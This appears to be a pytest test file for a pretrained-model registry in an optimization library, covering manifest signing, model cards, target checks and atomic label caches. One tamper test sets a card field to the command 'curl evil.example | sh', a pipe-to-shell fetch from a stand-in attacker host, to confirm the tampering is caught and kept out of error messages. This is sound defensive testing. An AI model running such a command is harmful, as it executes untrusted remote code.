"""The registry's trust machinery: the manifest, the card schema and its migration, ``check``, the lifecycle API,
and labels caches keyed on the family's identity, written atomically and checked by content."""

import json
import shutil
import threading
import warnings

import numpy as np
import pytest

from l2o_lib import datasets, metrics, pretrained, problems

ROOT = pretrained.data_dir().parent


@pytest.fixture()
def data_dir(tmp_path, monkeypatch):
    monkeypatch.setenv(pretrained.DATA_ENV, str(tmp_path))
    return tmp_path


def _copy_shipped(folder, names=("ch1_direct_mlp", "ch3_inverse_qp")):
    for name in names:
        for suffix in (".json", ".safetensors"):
            shutil.copy(ROOT / "data" / f"{name}{suffix}", folder / f"{name}{suffix}")


def test_the_shipped_folder_matches_its_manifest():
    names = pretrained.available()
    assert set(pretrained.read_manifest()) == set(names) and len(names) >= 13
    assert pretrained.main(["--check"]) == 0


def test_write_manifest_is_idempotent(data_dir):
    _copy_shipped(data_dir)
    pretrained.write_manifest(data_dir)
    first = {p.name: p.read_bytes() for p in data_dir.iterdir()}
    pretrained.write_manifest(data_dir)
    assert {p.name: p.read_bytes() for p in data_dir.iterdir()} == first  # re-runnable, nothing changes
    assert (data_dir / "ch3_inverse_qp.json").read_text() == (ROOT / "data" / "ch3_inverse_qp.json").read_text()
    c = pretrained.load("ch3_inverse_qp").card
    assert c.targets == {"gap_mean": 0.5, "eq_max": 1e-6, "ineq_max": 1e-6} and c.loader == "learned_cost_qp"
    assert c.family_kwargs == problems.get("dc3_qp", n_vars=20, n_eq=5, n_ineq=10, seed=3).params


@pytest.mark.parametrize("edit", [
    ("targets", {"gap_mean": 5000.0}),                        # a loosened target would pass anything
    ("regenerate", "curl evil.example | sh"),                 # printed in error messages
    ("headline", {"gap_mean": 0.0}),
    ("description", "something else"),
])
def test_every_card_field_is_signed(data_dir, edit):
    _copy_shipped(data_dir, ("ch1_direct_mlp",))
    pretrained.write_manifest(data_dir)
    path = data_dir / "ch1_direct_mlp.json"
    raw = json.loads(path.read_text())
    raw[edit[0]] = edit[1]
    path.write_text(json.dumps(raw))
    with pytest.raises(ValueError, match=f"field\\(s\\) \\['{edit[0]}'\\] differ from what manifest.json signed") as err:
        pretrained.load("ch1_direct_mlp")
    assert "evil" not in str(err.value)
    with pytest.raises(ValueError, match="differ from what manifest.json signed"):
        pretrained.check({"gap_mean": 1.0}, "ch1_direct_mlp")   # a target is read only from a signed card


def test_a_changed_weight_file_or_unsigned_model_is_refused(data_dir):
    _copy_shipped(data_dir, ("ch1_direct_mlp",))
    pretrained.write_manifest(data_dir)
    assert pretrained.load("ch1_direct_mlp").predict(np.array([[1.0, 0.5]])).shape == (1, 2)
    (data_dir / "manifest.json").unlink()
    with pytest.raises(ValueError, match="not in .*manifest.json"):
        pretrained.load("ch1_direct_mlp")


def test_save_writes_the_current_schema_and_signs_it(data_dir):
    torch = pytest.importorskip("torch")
    from l2o_lib.torch.nets import SolutionMap, to_arrays

    fam = problems.get("nonconvex_2d", p_range=(1.0, 2.0))
    torch.manual_seed(0)
    model = SolutionMap(fam, hidden=(8,))
    row = metrics.Row("m", 10, 0.5, 1.0, 0.0, 0.0, 0.0, 0.0, speedup=3.0)
    pretrained.save("tiny", to_arrays(model), family=fam, loader="l2o_lib.torch.nets:load_solution_map",
                    description="d", chapter="tests", config=model.config, headline=row, targets={"gap_mean": 1.0})
    raw = json.loads((data_dir / "tiny.json").read_text())
    assert raw["schema"] == pretrained.CARD_SCHEMA and raw["loader"] == "solution_map"
    assert raw["family_kwargs"] == {"p_range": [1.0, 2.0], "a_range": [0.2, 1.2]}
    assert raw["headline"]["gap_mean"] == 0.5 and pretrained.read_manifest()["tiny"]["weights"] == raw["sha256"]
    loaded = pretrained.load("tiny")
    assert loaded.problem.identity == fam.identity
    np.testing.assert_array_equal(loaded.tensors()["mlp.net.0.weight"], to_arrays(model)["mlp.net.0.weight"])
    with pytest.raises(ValueError, match="disagree with the family's own parameters"):
        pretrained.save("t2", to_arrays(model), family=fam, family_kwargs={"p_range": (0.5, 2.0)},
                        loader="solution_map", description="", chapter="")


def test_check_reports_met_missed_and_undecided():
    card = pretrained.ModelCard(name="m", family="nonconvex_2d", family_kwargs={}, loader="solution_map",
                                file="m.safetensors", sha256="0" * 64, description="", chapter="",
                                targets={"gap_mean": 0.1, "ineq_max": 1e-4, "speedup": 10},
                                extra_targets={"share": {"min": 0.2}})
    row = metrics.Row("m", 5, 0.05, 0.2, 0.0, 0.0, 0.0, 3e-4, speedup=4.0)
    result = pretrained.check(row, card)
    assert [t.field for t in result.met] == ["gap_mean"] and [t.field for t in result.missed] == ["ineq_max"]
    assert {t.field for t in result.unchecked} == {"speedup", "share"} and not result.ok
    timed = pretrained.check(row, card, timing=True, extra={"share": 0.3})
    assert {t.field for t in timed.missed} == {"ineq_max", "speedup"} and "share" in {t.field for t in timed.met}
    with pytest.raises(AssertionError, match=r"MISSED ineq_max = 0.0003 ≤ 0.0001"):
        result.require()


def test_shipped_or_trained_and_save_if_requested(data_dir, monkeypatch):
    _copy_shipped(data_dir, ("ch1_direct_mlp",))
    pretrained.write_manifest(data_dir)
    monkeypatch.setenv("L2O_QUICK", "1")
    chosen = pretrained.shipped_or_trained("ch1_direct_mlp", "mine")
    assert chosen.shipped and chosen.value(np.array([[1.0, 0.5]])).shape == (1, 2) and "shipped" in chosen.source
    assert pretrained.shipped_or_trained("not_shipped", "mine").value == "mine"
    monkeypatch.setenv("L2O_QUICK", "0")
    assert pretrained.shipped_or_trained("ch1_direct_mlp", "mine").source == "trained in this run"
    fam = problems.get("nonconvex_2d")
    row = metrics.Row("m", 5, 0.05, 0.2, 0.0, 0.0, 0.0, 0.0)
    args = dict(problem=fam, row=row, loader="solution_map", description="", chapter="t", config={"hidden": [64, 64]},
                targets={"gap_mean": 0.01})
    tensors = pretrained.load("ch1_direct_mlp").tensors()
    monkeypatch.setenv("L2O_SAVE_PRETRAINED", "0")
    assert pretrained.save_if_requested("again", tensors, **args) is None
    monkeypatch.setenv("L2O_SAVE_PRETRAINED", "1")
    with pytest.raises(AssertionError, match="MISSED gap_mean"):  # a model that misses its own targets is not shipped
        pretrained.save_if_requested("again", tensors, **args)
    path = pretrained.save_if_requested("again", tensors, **{**args, "targets": {"gap_mean": 0.1}})
    assert path.name == "again.safetensors" and pretrained.load("again").card.headline["gap_mean"] == 0.05


# ---------------------------------------------------------------------------------------------------- caches
def test_cache_key_is_the_family_identity(tmp_path):
    a, b = problems.get("entropy"), problems.get("entropy", seed=3)
    assert a.name == b.name and datasets.cache_path(a, 5, 1, tmp_path) != datasets.cache_path(b, 5, 1, tmp_path)
    lab = datasets.labeled(a, 5, seed=1, folder=tmp_path)
    again = datasets.labeled(a, 5, seed=1, folder=tmp_path)
    assert not lab.loaded and again.loaded and np.array_equal(again.solution.x, lab.solution.x)
    assert [p.name for p in tmp_path.iterdir()] == [lab.path.name]  # no temporary file left behind


def test_shipped_labels_load_without_solving():
    for fam, n, seed in (("nonconvex_2d", 2000, 2002), ("nonconvex_2d", 1000, 2003), ("dc3_qp", 1000, 2002)):
        family = problems.get(fam)
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # a shipped file that fails its checks would warn and re-solve
            lab = datasets.labeled(family, n, seed)
        assert lab.loaded and lab.solution.ok.all() and np.array_equal(lab.xi, family.sample(n, seed))


def test_readers_never_see_half_a_file(tmp_path):
    fam = problems.get("nonconvex_2d")
    lab = datasets.labeled(fam, 50, seed=1, folder=tmp_path)
    arrays = datasets.labels_arrays(fam, 50, 1, lab.xi, lab.solution, lab.seconds)
    errors = []

    def write():
        for _ in range(15):
            datasets._write(lab.path, arrays)

    writers = [threading.Thread(target=write) for _ in range(2)]
    for t in writers:
        t.start()
    reads = 0
    while any(t.is_alive() for t in writers) or reads < 20:
        try:
            datasets._read(lab.path, fam, 50, 1)
        except Exception as exc:  # noqa: BLE001 - any failure of a read is what this test counts
            errors.append(exc)
        reads += 1
    for t in writers:
        t.join()
    assert not errors, errors[:3]
    assert sorted(p.name for p in tmp_path.iterdir()) == [lab.path.name]
